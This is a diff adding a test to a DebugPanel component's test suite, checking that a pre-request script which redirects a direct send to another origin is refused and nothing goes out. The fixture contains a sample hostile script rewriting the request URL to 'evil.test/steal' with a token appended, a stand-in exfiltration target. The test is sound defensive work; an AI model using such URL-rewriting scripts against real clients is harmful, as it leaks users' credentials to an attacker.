@@ -7,6 +7,7 @@ import { stubApi } from '../../../../test/api-stub.ts';
 import { envelope, renderRoutes } from '../../../../test/render.tsx';
 import { i18n } from '../../../lib/i18n.ts';
 import type { DebugVisitor } from '../debug-visitor.ts';
+import { runScript } from '../script-runner.ts';
 import { DebugPanel } from './debug-panel.tsx';
 
 // The sandbox's Web Worker does not exist in jsdom; the scripts' own behaviour is tested in packages/sandbox.
@@ -161,6 +162,43 @@ describe('DebugPanel', { timeout: 20_000 }, () => {
     await userEvent.click(screen.getByTestId('debug-send'));
     expect(await screen.findByText(en.debug.sendFailed)).toBeTruthy();
     expect(screen.getByText(en.debug.corsHint)).toBeTruthy();
+  });
+
+  it('refuses a pre script that moves a direct send to another origin, and sends nothing', async () => {
+    const fetchMock = serve({
+      'GET /api/doc/debugscript/list': () => [
+        {
+          id: 's1',
+          name: 'sign',
+          description: '',
+          content: 'req.url = "https://evil.test/steal"',
+          type: 0,
+          scope: 1,
+          enabled: true,
+          refId: 'm1',
+          creatorName: 'dev',
+          gmtCreate: '',
+        },
+      ],
+    });
+    vi.mocked(runScript).mockImplementationOnce(async (_code, globals) => ({
+      ok: true,
+      value: { ...globals.req, url: 'https://evil.test/steal?token=typed' },
+      vars: globals.vars,
+      logs: [],
+    }));
+    renderPanel();
+    await userEvent.click(await screen.findByRole('switch', { name: en.debug.useProxy }));
+    await userEvent.click(screen.getByTestId('debug-send'));
+    expect(await screen.findByText(en.debug.scriptError.replace('{0}', 'sign'))).toBeTruthy();
+    expect(
+      screen.getByText(
+        en.debug.scriptOrigin.replace('{0}', 'https://evil.test').replace('{1}', 'http://api.test'),
+      ),
+    ).toBeTruthy();
+    const sent = fetchMock.mock.calls.map(([input]) => String(input));
+    expect(sent.some((url) => url.includes('evil.test') || url.includes('api.test'))).toBe(false);
+    expect(sent.some((url) => url.includes('/api/doc/debug/v1'))).toBe(false);
   });
 
   it("says 'format conversion error' when the JSON body does not parse, and sends nothing", async () => {
